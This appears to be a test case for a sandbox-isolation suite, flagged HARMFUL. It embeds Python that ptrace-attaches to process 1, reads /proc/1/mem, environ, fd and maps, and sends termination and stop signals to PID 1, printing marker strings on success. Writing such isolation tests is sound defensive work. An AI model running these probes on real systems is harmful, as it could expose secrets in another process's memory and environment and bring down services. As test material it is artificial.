"""Process 1 of the sandbox, a fork of the fork server too, is traced, rewritten and signalled."""

FORGED = ("double-test",)
HARMFUL = True
CODE = """
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
ATTACH = 16
if libc.ptrace(ATTACH, 1, None, None) == 0:
    print("attackmark-the-neighbours-" + "secret: process 1 can be traced")
for name in ("mem", "environ", "fd", "maps"):
    try:
        if name == "fd":
            found = os.listdir("/proc/1/fd")
        else:
            found = open(f"/proc/1/{name}", "r+b" if name == "mem" else "rb", buffering=0).read(1)
        print("attackmark-the-neighbours-" + "secret: process 1 shows", name, found)
    except OSError:
        pass
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signal.SIGSTOP):
    try:
        os.kill(1, number)
    except (OSError, KeyboardInterrupt):
        pass
double = None
"""
